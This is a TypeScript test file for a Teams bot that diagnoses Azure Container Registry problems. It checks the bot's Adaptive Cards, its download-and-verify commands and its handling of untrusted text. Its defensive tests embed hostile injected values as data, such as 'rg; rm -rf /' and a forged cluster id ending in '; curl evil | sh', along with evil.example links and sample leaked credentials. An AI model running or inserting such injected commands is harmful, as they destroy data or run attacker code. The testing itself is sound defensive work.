import assert from 'node:assert/strict';
import { helpCard, progressCard, resultCard, MAX_FINDINGS_ON_CARD } from '../../cards/cards.js';
import { parseCardSubmit } from '../../dialogs/commands.js';
import { aksContextName } from '../../src/engine/target/aks-cluster.js';
import { escalationSummaryCard, ticketCard } from '../../cards/escalation-cards.js';
import type { Escalation } from '../../src/escalation/escalations.js';
import { sampleTicketRequest } from '../helpers/ticket-request.js';
import { LANGS } from '../../src/engine/report/types.js';
import { assertValidCard } from '../helpers/validate-card.js';
import { assertShownAsText, HOSTILE, plain, richLines } from '../helpers/card-texts.js';
import { suggestedTitle } from '../../dialogs/escalate-dialog.js';
import { t } from '../../src/engine/i18n/i18n.js';
import { progressView } from '../../src/engine/report/progress-view.js';
import type { ProgressSnapshot } from '../../src/engine/probes/evidence.js';
import { DENIED_EVIDENCE, evidenceHolding, HEALTHY_EVIDENCE, sampleReport } from '../helpers/sample-report.js';
import type { Report } from '../../src/engine/report/types.js';
import { knowledge } from '../../src/engine/knowledge/knowledge.js';
import { SAMPLE_DOWNLOAD } from '../helpers/cli-download.js';

type Node = Record<string, unknown>;
/** Every TextBlock / Fact text of a card, in order. */
function texts(node: unknown): string[] {
  if (Array.isArray(node)) return node.flatMap(texts);
  if (!node || typeof node !== 'object') return [];
  const n = node as Node;
  const own = [n.text, n.title, n.value].filter((v): v is string => typeof v === 'string');
  return [...own, ...Object.values(n).flatMap((v) => (typeof v === 'object' ? texts(v) : []))];
}
function find(node: unknown, predicate: (n: Node) => boolean): Node[] {
  if (Array.isArray(node)) return node.flatMap((x) => find(x, predicate));
  if (!node || typeof node !== 'object') return [];
  const n = node as Node;
  return [...(predicate(n) ? [n] : []), ...Object.values(n).flatMap((v) => (typeof v === 'object' ? find(v, predicate) : []))];
}

describe('Adaptive Cards', function () {
  for (const lang of LANGS) {
    it(`${lang}: result, progress and help cards are valid Adaptive Cards 1.5`, function () {
      const report = sampleReport(DENIED_EVIDENCE, lang);
      for (const card of [resultCard(report, 'bot', SAMPLE_DOWNLOAD), resultCard(sampleReport(HEALTHY_EVIDENCE, lang), 'client', SAMPLE_DOWNLOAD), progressCard(lang, 'myregistry.azurecr.io', { done: 2, total: 6, finished: report.checks.slice(0, 2), pending: ['TLS handshake with myregistry.azurecr.io'] }), helpCard(lang)]) {
        assertValidCard(card);
        assert.equal(card.lang, lang);
        assert.equal(card.rtl, lang === 'ar', 'Arabic cards read right to left');
        for (const text of texts(card)) assert.doesNotMatch(text, /\$\{/, `unexpanded template: ${text}`);
      }
    });
  }

  for (const lang of LANGS) {
    it(`${lang}: escalation summary and ticket cards (created, pending, failed) are valid Adaptive Cards 1.5`, function () {
      const request = sampleTicketRequest({ lang });
      const created: Escalation = { key: request.key, sink: 'webhook', state: 'created', request, reference: {}, attempts: 1, createdAt: '', updatedAt: '', ticket: { key: request.key, sink: 'webhook', id: 'INC001', url: 'https://tickets.contoso.com/INC001', status: 'open', createdAt: '' } };
      const cards = [
        escalationSummaryCard(lang, request, 'azure'),
        ticketCard(lang, created),
        ticketCard(lang, { ...created, state: 'pending', ticket: undefined, lastError: 'webhook answered 503' } as Escalation),
        ticketCard(lang, { ...created, state: 'failed', ticket: undefined, lastError: 'webhook answered 400' } as Escalation),
      ];
      for (const card of cards) {
        assertValidCard(card);
        assert.equal(card.rtl, lang === 'ar');
        for (const text of texts(card)) assert.doesNotMatch(text, /\$\{/, `unexpanded template: ${text}`);
      }
      assert.deepEqual((cards[1]!.actions as Node[]).map((a) => a.url), ['https://tickets.contoso.com/INC001'], 'a created ticket links to itself');
      assert.deepEqual(cards[2]!.actions ?? [], [], 'a pending one has nothing to open yet');
      assert.ok(texts(cards[3]).some((t) => t.includes('webhook answered 400')), 'a failed one says why');
    });
  }

  it('the schema check rejects what Teams would not render', function () {
    const card = helpCard('en');
    assert.throws(() => assertValidCard({ ...card, body: [{ type: 'TextBlok', text: 'typo' }] }), /Adaptive Cards 1.5/);
    assert.throws(() => assertValidCard({ ...card, actions: [{ type: 'Action.Submit', title: 'x', verb: 'not-a-submit-field' }] }), /Adaptive Cards 1.5/);
    assert.throws(() => assertValidCard({ ...card, version: '1.6' }), /renders up to 1.5/);
  });

  it('a result card leads with the verdict, then the finding and its fix, ready to copy', function () {
    const card = resultCard(sampleReport(DENIED_EVIDENCE), 'bot', SAMPLE_DOWNLOAD);
    const all = texts(card);
    assert.match(all[0]!, /^PROBLEM: myregistry\.azurecr\.io/);
    const fix = find(card, (n) => n.text === 'az acr network-rule add --name myregistry --ip-address 203.0.113.77');
    assert.equal(fix.length, 1);
    assert.equal(fix[0]!.fontType, 'Monospace', 'commands are monospace');
    assert.ok(all.indexOf("The registry's network rules deny this client (IP 203.0.113.77)") > 0);
    assert.ok(all.some((t) => t.includes("bot's own network")), 'says where the probes ran');
    const { sha256 } = SAMPLE_DOWNLOAD;
    assert.ok(all.includes(`curl -fsSLo acr-check.mjs https://bot.contoso.com/acr-check.mjs && echo "${sha256}  acr-check.mjs" | sha256sum -c - && node acr-check.mjs myregistry`), 'the command to run on the failing machine');
  });

  it('the failing machine gets acr-check from the bot, checked by its SHA-256: bash and PowerShell, or an AKS pod where the client is AKS; never npx', function () {
    const monospace = (card: Node): string[] => find(card, (n) => n.type === 'TextRun' && n.fontType === 'Monospace').map((n) => String(n.text)).filter((c) => c.includes('acr-check.mjs'));
    for (const lang of LANGS) {
      const report = sampleReport(DENIED_EVIDENCE, lang);
      const card = resultCard(report, 'bot', SAMPLE_DOWNLOAD);
      const commands = monospace(card);
      assert.equal(commands.length, 2, commands.join('\n'));
      assert.ok(commands.every((c) => c.includes(SAMPLE_DOWNLOAD.sha256!) && c.includes('https://bot.contoso.com/acr-check.mjs')), 'each downloads from the bot and checks the SHA-256');
      assert.match(commands[0]!, /^curl -fsSLo acr-check\.mjs https:\/\/bot\.contoso\.com\/acr-check\.mjs && echo "[0-9a-f]{64} {2}acr-check\.mjs" \| sha256sum -c - && node acr-check\.mjs myregistry$/);
      assert.match(commands[1]!, /^\$ProgressPreference = 'SilentlyContinue'; Invoke-WebRequest -UseBasicParsing -Uri https:\/\/bot\.contoso\.com\/acr-check\.mjs -OutFile acr-check\.mjs; if \(\(Get-FileHash -Algorithm SHA256 acr-check\.mjs\)\.Hash -eq '[0-9a-f]{64}'\) \{ node acr-check\.mjs myregistry \}/);
      const aks = monospace(resultCard({ ...report, client: { ...report.client, kind: 'aks' } }, 'bot', SAMPLE_DOWNLOAD));
      assert.equal(aks.length, 1, aks.join('\n'));
      assert.match(aks[0]!, /^kubectl run acr-check-myregistry --rm -i --restart=Never --image=mcr\.microsoft\.com\/azurelinux\/base\/nodejs:20 --command '--' node -e '[^']+' myregistry --client aks$/);
      assert.doesNotMatch(JSON.stringify(card), /npx/, 'nothing from npm: the name is not ours');
      assert.ok(texts(card).includes(t(lang, 'fetchCli.checked')), 'the card says what the commands do');
      assert.ok(texts(card).includes(t(lang, 'fetchCli.sendHere')), 'and where the other commands are, with a code that brings the result here');
    }
  });

  it('a bot without the file, or without a public address, shows no command and says why', function () {
    const report = sampleReport(DENIED_EVIDENCE);
    const noFile = resultCard(report, 'bot', { ...SAMPLE_DOWNLOAD, sha256: undefined });
    const noAddress = resultCard(report, 'bot', { ...SAMPLE_DOWNLOAD, botUrl: '' });
    for (const [card, text] of [[noFile, t('en', 'fetchCli.noFile')], [noAddress, t('en', 'fetchCli.noAddress')]] as const) {
      assertValidCard(card);
      assert.ok(texts(card).includes(text));
      assert.ok(!JSON.stringify(card).includes('acr-check.mjs'), 'no command');
    }
  });

  it('in an Arabic card, commands stay left to right (a shell reads them that way)', function () {
    const card = resultCard(sampleReport(DENIED_EVIDENCE, 'ar'), 'bot', SAMPLE_DOWNLOAD);
    assert.equal(card.rtl, true);
    const commands = find(card, (n) => n.fontType === 'Monospace');
    assert.ok(commands.length >= 2, 'the fix and the acr-check command');
    for (const command of commands) {
      const column = find(card, (n) => n.type === 'Column' && find(n.items, (x) => x === command).length > 0);
      assert.equal(column.length, 1, `${String(command.text)} sits in its own column`);
      assert.equal(column[0]!.rtl, false, `${String(command.text)} is laid out left to right`);
    }
  });

  it('offers re-run, running it on the failing machine, all checks and escalate (of this very diagnosis)', function () {
    const report = sampleReport(DENIED_EVIDENCE);
    const card = resultCard(report, 'bot', SAMPLE_DOWNLOAD);
    const actions = card.actions as Node[];
    assert.deepEqual(actions.map((a) => a.type), ['Action.Submit', 'Action.Submit', 'Action.ToggleVisibility', 'Action.Submit']);
    assert.deepEqual(actions.map((a) => (a.data as Node | undefined)?.verb ?? a.title), ['rerun', 'handover', 'Show all checks', 'escalate']);
    assert.equal((actions[3]!.data as Node).diagnosis, report.id);
    const checks = find(card, (n) => n.id === 'checks')[0]!;
    assert.equal(checks.isVisible, false, 'checks are folded until asked for');
    assert.equal(texts(checks).filter((t) => t.startsWith('FAIL ')).length, 1, 'the failed check is marked FAIL');
  });

  it(`shows at most ${MAX_FINDINGS_ON_CARD} findings, and a healthy card none`, function () {
    const many = sampleReport(DENIED_EVIDENCE);
    assert.ok(many.findings.length > 0);
    many.findings = Array.from({ length: MAX_FINDINGS_ON_CARD + 2 }, (_, i) => ({ ...many.findings[0]!, title: `Finding number ${i + 1}` }));
    const shown = texts(resultCard(many, 'bot', SAMPLE_DOWNLOAD)).filter((text) => /^Finding number \d+$/.test(text));
    assert.deepEqual(shown, Array.from({ length: MAX_FINDINGS_ON_CARD }, (_, i) => `Finding number ${i + 1}`), 'the first ones, most likely first');
    const healthy = resultCard(sampleReport(HEALTHY_EVIDENCE), 'bot', SAMPLE_DOWNLOAD);
    assert.match(texts(healthy)[0]!, /^HEALTHY/);
    assert.equal(find(healthy, (n) => n.fontType === 'Monospace').length, 2, 'only the acr-check commands (bash, PowerShell)');
  });

  it('the help card shows <registry>: commands are TextRuns, which no client reads as HTML or markdown', function () {
    for (const lang of LANGS) {
      const card = helpCard(lang);
      const lines = richLines(card).map(plain);
      assert.equal(lines.length, 4, 'acr-check, diagnose, escalate, help');
      assert.ok(lines[0]!.startsWith(`acr-check ${t(lang, 'card.helpArgs')}: `), lines[0]);
      assert.ok(lines[0]!.includes(lang === 'en' ? '<registry>' : lang === 'ru' ? '<реестр>' : '<السجل>'));
      for (const block of find(card, (n) => n.type === 'TextBlock')) assert.doesNotMatch(String(block.text), /<\w+>/, 'no angle brackets where markdown or HTML is read');
    }
  });

  it('the progress card counts every planned check from the start and names those still running', function () {
    const at = (done: number): ProgressSnapshot => ({
      planned: [{ id: 'tls', kind: 'tls', data: { servername: 'myregistry.azurecr.io' } }],
      running: [{ id: 'dns.server:10.0.0.4', kind: 'dns.server', data: { server: '10.0.0.4', host: 'myregistry.azurecr.io' } }],
      done: DENIED_EVIDENCE.slice(0, done),
    });
    const start = texts(progressCard('en', 'myregistry.azurecr.io', progressView('en', at(0))));
    assert.ok(start.includes('0 of 2 checks done'), start.join(' | '));
    const later = texts(progressCard('en', 'myregistry.azurecr.io', progressView('en', at(3))));
    assert.ok(later.includes('3 of 5 checks done'), later.join(' | '));
    assert.ok(later.includes('Still running: DNS query to 10.0.0.4, TLS handshake with myregistry.azurecr.io'), later.join(' | '));
    assert.deepEqual(texts(progressCard('en', 'r', progressView('en', { planned: [], running: [], done: DENIED_EVIDENCE }))).filter((x) => x.startsWith('Still running')), [], 'nothing named once all are done');
  });

  it('the command for the failing machine carries the symptom and client the conversation established', function () {
    const report = sampleReport(DENIED_EVIDENCE, 'en', ['cli-cannot-connect']);
    const card = resultCard({ ...report, client: { ...report.client, kind: 'aks' } }, 'bot', SAMPLE_DOWNLOAD);
    const commands = texts(card).filter((c) => c.includes('acr-check.mjs'));
    assert.equal(commands.length, 1, 'the AKS pod\'s');
    assert.ok(commands[0]!.endsWith(`' myregistry --symptom cli-cannot-connect --client aks`), commands[0]);
    const elsewhere = texts(resultCard({ ...report, client: { ...report.client, kind: 'vm' } }, 'bot', SAMPLE_DOWNLOAD)).filter((c) => c.includes('acr-check.mjs'));
    assert.deepEqual(elsewhere.map((c) => c.includes('node acr-check.mjs myregistry --symptom cli-cannot-connect --client vm')), [true, true], 'bash and PowerShell');
  });

  it('the escalation summary shows what will be sent: secrets removed, as it says', function () {
    const jwt = 'eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJ1c2VyIn0.c2lnbmF0dXJlLXNpZ25hdHVyZQ';
    const request = sampleTicketRequest({ title: `pull fails, token ${jwt}`, description: `docker login -u admin password=Sup3rS3cret! then Bearer ${jwt}` });
    const shown = texts(escalationSummaryCard('en', request, 'azure')).join('\n');
    assert.match(shown, /secrets are removed/);
    assert.doesNotMatch(shown, /Sup3rS3cret|eyJhbGciOiJSUzI1NiJ9\.eyJ/);
    assert.match(shown, /password=\[REDACTED\]/);
  });

  it('the suggested ticket title names the registry once', function () {
    for (const lang of LANGS) {
      const report = sampleReport(DENIED_EVIDENCE, lang);
      const title = plain(suggestedTitle(report, lang));
      assert.equal(title.split('myregistry').length - 1, 1, title);
      const healthy = plain(suggestedTitle(sampleReport(HEALTHY_EVIDENCE, lang), lang));
      assert.equal(healthy.split('myregistry').length - 1, 1, healthy);
    }
    const unnamed = { ...sampleReport(DENIED_EVIDENCE), findings: [{ ...sampleReport(DENIED_EVIDENCE).findings[0]!, title: 'Something blocks it' }] };
    assert.equal(suggestedTitle(unnamed, 'en'), 'myregistry.azurecr.io: Something blocks it');
  });

  describe('what came from outside is shown as text, never read as markdown', function () {
    /** A report whose every free text says HOSTILE: an uploaded report's titles are whatever the upload says. */
    function everyTextHostile(lang: (typeof LANGS)[number]): Report {
      const report = sampleReport(evidenceHolding(HOSTILE), lang);
      return {
        ...report,
        client: { ...report.client, hostname: HOSTILE },
        checks: report.checks.map((c) => ({ ...c, title: HOSTILE, detail: HOSTILE })),
        findings: report.findings.map((f) => ({ ...f, title: HOSTILE, explanation: HOSTILE, evidence: [HOSTILE], fixes: f.fixes.map((x) => ({ ...x, title: HOSTILE, commands: [HOSTILE], docs: ['https://evil.example/'] })) })),
      };
    }

    for (const lang of LANGS) {
      it(`${lang}: the result card shows DNS names, a certificate's issuer, ACR's message and errors through TextRuns`, function () {
        const staged = sampleReport(evidenceHolding(HOSTILE), lang);
        assert.ok(staged.findings.length > 0, 'the staged evidence makes findings');
        for (const [name, report] of [['staged evidence', staged], ['every text', everyTextHostile(lang)]] as const) {
          for (const vantage of ['bot', 'client'] as const) {
            const card = resultCard(report, vantage, SAMPLE_DOWNLOAD);
            assertValidCard(card);
            assert.equal(card.rtl, lang === 'ar');
            assertShownAsText(card, `${name}, ${vantage}`);
          }
        }
      });

      it(`${lang}: the escalation summary of an uploaded report keeps its titles out of the FactSet`, function () {
        const report = everyTextHostile(lang);
        const request = sampleTicketRequest({ lang, report, vantage: 'client', title: HOSTILE, description: HOSTILE, subscriptionId: HOSTILE, contact: { firstName: HOSTILE, lastName: 'x', email: 'pe@contoso.com', method: 'phone', phone: HOSTILE } });
        const card = escalationSummaryCard(lang, request, 'webhook');
        assertValidCard(card);
        assert.equal(card.rtl, lang === 'ar');
        assertShownAsText(card, 'escalation summary');
        const facts = find(card, (n) => n.type === 'FactSet').flatMap((f) => f.facts as Node[]);
        assert.ok(facts.length >= 4, 'severity, registry, diagnosis and vantage stay a FactSet');
      });

      it(`${lang}: the ticket and progress cards show what a sink answered and check titles through TextRuns`, function () {
        const request = sampleTicketRequest({ lang, title: HOSTILE });
        const created: Escalation = { key: request.key, sink: 'webhook', state: 'created', request, reference: {}, attempts: 1, createdAt: '', updatedAt: '', ticket: { key: request.key, sink: 'webhook', id: HOSTILE, url: 'https://tickets.contoso.com/INC001', status: HOSTILE, createdAt: '' } };
        const failed = { ...created, state: 'failed', ticket: undefined, lastError: HOSTILE } as Escalation;
        const report = everyTextHostile(lang);
        const progress = progressCard(lang, 'myregistry.azurecr.io', { done: 2, total: 4, finished: report.checks.slice(0, 2), pending: [HOSTILE] });
        for (const [name, card] of [['ticket', ticketCard(lang, created)], ['failed ticket', ticketCard(lang, failed)], ['progress', progress]] as const) {
          assertValidCard(card);
          assertShownAsText(card, name);
        }
      });
    }

    it("a fix's documentation links are ours (knowledge.json), never a link the report carries", function () {
      const report = sampleReport(DENIED_EVIDENCE);
      const finding = report.findings[0]!;
      const ours = finding.fixes.flatMap((x) => knowledge.fixes[x.id!]!.docs);
      assert.ok(ours.length > 0, 'the fix links its documentation');
      const shown = { ...report, findings: [{ ...finding, fixes: finding.fixes.map((x) => ({ ...x, docs: [...x.docs, 'https://evil.example/'] })) }] };
      const links = find(resultCard(shown, 'client', SAMPLE_DOWNLOAD), (n) => n.type === 'TextBlock' && String(n.text).startsWith('[')).map((n) => String(n.text));
      assert.deepEqual(links, ours.map((d) => `[${d}](${d})`));
    });
  });

  it("the bot rewords a fix by the id it carries, whatever words the report gave it", function () {
    const report = sampleReport(DENIED_EVIDENCE);
    const finding = report.findings[0]!;
    const shown = { ...report, findings: [{ ...finding, fixes: [{ id: 'dns-server', title: 'Check the DNS server (an earlier wording)', commands: [], docs: [] }] }] };
    const all = texts(resultCard(shown, 'bot', SAMPLE_DOWNLOAD));
    assert.ok(all.includes(t('en', 'botView.fixes.dns-server')), all.join(' | '));
    assert.ok(texts(resultCard(shown, 'client', SAMPLE_DOWNLOAD)).includes('Check the DNS server (an earlier wording)'), 'from the client, the words stay the report\'s');
  });
});

describe('card data', function () {
  it('is taken only in the shapes our cards write; anything else is marked, not guessed at', function () {
    const id = '0b1f6471-1bf0-4dda-aec3-111122223333';
    assert.deepEqual(parseCardSubmit({ verb: 'handover', diagnosis: id, extra: 1 }), { verb: 'handover', diagnosis: id });
    assert.deepEqual(parseCardSubmit({ verb: 'escalation.confirm', escalation: 'acr-doctor-0123456789abcdef0123456789abcdef' }), { verb: 'escalation.confirm', escalation: 'acr-doctor-0123456789abcdef0123456789abcdef' });
    assert.deepEqual(parseCardSubmit({ verb: 'escalation.confirm', escalation: '../tickets/x' }), { verb: 'escalation.confirm', invalid: true });
    assert.deepEqual(parseCardSubmit({ verb: 'escalate', diagnosis: `${id}/../x` }), { verb: 'escalate', invalid: true });
    assert.deepEqual(parseCardSubmit({ verb: 'drop', registry: 'x'.repeat(513) }), { invalid: true });
    assert.deepEqual(parseCardSubmit({ verb: ['rerun'] }), { invalid: true });
    assert.deepEqual(parseCardSubmit(['rerun']), {});
    assert.deepEqual(parseCardSubmit('rerun'), {});
    assert.deepEqual(parseCardSubmit({ verb: 'rerun', registry: 'r', aksCluster: 'rg-aks/aks-lab' }), { verb: 'rerun', registry: 'r', aksCluster: 'rg-aks/aks-lab' });
    assert.deepEqual(parseCardSubmit({ verb: 'rerun', registry: 'r', aksCluster: '' }), { verb: 'rerun', registry: 'r', aksCluster: '' });
    assert.deepEqual(parseCardSubmit({ verb: 'rerun', registry: 'r', aksCluster: 'rg; rm -rf /' }), { verb: 'rerun', registry: 'r', invalid: true });
  });
});

describe('result card: the AKS cluster\'s side', function () {
  const CLUSTER_ID = '/subscriptions/0b1f6471-1bf0-4dda-aec3-111122223333/resourceGroups/rg-aks/providers/Microsoft.ContainerService/managedClusters/aks-prod';
  /** A report of an AKS client whose cluster was read (`read`), or only named. */
  function aksReport(lang: (typeof LANGS)[number], read: boolean): Report {
    const report = sampleReport(HEALTHY_EVIDENCE, lang);
    const aks = { id: CLUSTER_ID, name: 'aks-prod', outboundType: 'loadBalancer', egressIps: ['20.1.2.3'], nodeSubnetIds: [], windowsPools: false, privateCluster: false };
    const check = read
      ? { id: 'arm.aks', title: 'ARM: the AKS cluster', status: 'pass' as const, outcome: 'arm.aks.ok', durationMs: 5, detail: 'aks-prod: outbound loadBalancer, egress addresses 20.1.2.3', data: { cluster: 'rg-aks/aks-prod' } }
      : { id: 'arm.aks', title: 'ARM: the AKS cluster', status: 'warn' as const, outcome: 'arm.forbidden', durationMs: 5, detail: '403', data: { cluster: 'rg-aks/aks-prod' } };
    return { ...report, client: { ...report.client, kind: 'aks' }, checks: [...report.checks, check], facts: { ...report.facts, ...(read ? { aks } : {}) } };
  }
  const monospace = (card: Node): string[] => find(card, (n) => n.type === 'TextRun' && n.fontType === 'Monospace').map((n) => String(n.text)).filter((c) => c.includes('acr-check.mjs'));
  const rerunData = (card: Node): Record<string, unknown> => find(card, (n) => n.type === 'Action.Submit' && (n.data as { verb?: string } | undefined)?.verb === 'rerun')[0]!.data as Record<string, unknown>;

  it('says what was read of the cluster, runs the pod in that cluster, and re-runs with it', function () {
    for (const lang of LANGS) {
      const card = resultCard(aksReport(lang, true), 'bot', SAMPLE_DOWNLOAD);
      assertValidCard(card);
      assert.ok(richLines(card).some((line) => plain(line).includes(plain(t(lang, 'card.cluster', { detail: '' })).trim()) && line.includes('20.1.2.3')), `${lang}: the cluster line`);
      const [pod] = monospace(card);
      const context = aksContextName('0b1f6471-1bf0-4dda-aec3-111122223333', 'rg-aks', 'aks-prod');
      assert.ok(pod!.startsWith(`az aks get-credentials --subscription 0b1f6471-1bf0-4dda-aec3-111122223333 --resource-group rg-aks --name aks-prod --context ${context} --overwrite-existing; kubectl --context ${context} run acr-check-myregistry `), `${lang}: ${pod}`);
      assert.equal(rerunData(card).aksCluster, CLUSTER_ID);
    }
  });

  it('a cluster named but not read: its check is said, the pod runs in the current context, the re-run asks about it again', function () {
    const card = resultCard(aksReport('en', false), 'bot', SAMPLE_DOWNLOAD);
    assert.match(monospace(card)[0]!, /^kubectl run acr-check-myregistry /);
    assert.equal(rerunData(card).aksCluster, 'rg-aks/aks-prod');
    const none = resultCard(sampleReport(HEALTHY_EVIDENCE), 'bot', SAMPLE_DOWNLOAD);
    assert.equal(rerunData(none).aksCluster, '');
    assert.ok(!richLines(none).some((line) => line.includes(t('en', 'card.cluster', { detail: '' }).trim())), 'no cluster line without a cluster');
  });

  it('a resource group with parentheses is quoted for the shell', function () {
    const report = aksReport('en', true);
    const odd = { ...report, facts: { ...report.facts, aks: { ...report.facts.aks!, id: CLUSTER_ID.replace('rg-aks', 'rg(prod)') } } };
    assert.ok(monospace(resultCard(odd, 'bot', SAMPLE_DOWNLOAD))[0]!.includes(`--resource-group 'rg(prod)' --name aks-prod --context ${aksContextName('0b1f6471-1bf0-4dda-aec3-111122223333', 'rg(prod)', 'aks-prod')} `));
  });

  it('a cluster id that is not one (an uploaded report\'s facts) gives no cluster to run in, nor to re-run', function () {
    const report = aksReport('en', true);
    const forged = { ...report, facts: { ...report.facts, aks: { ...report.facts.aks!, id: `${CLUSTER_ID}; curl evil | sh` } } };
    const card = resultCard(forged, 'bot', SAMPLE_DOWNLOAD);
    assert.match(monospace(card)[0]!, /^kubectl run /);
    assert.ok(!JSON.stringify(card).includes('curl evil'), 'nothing of it pasted');
  });
});
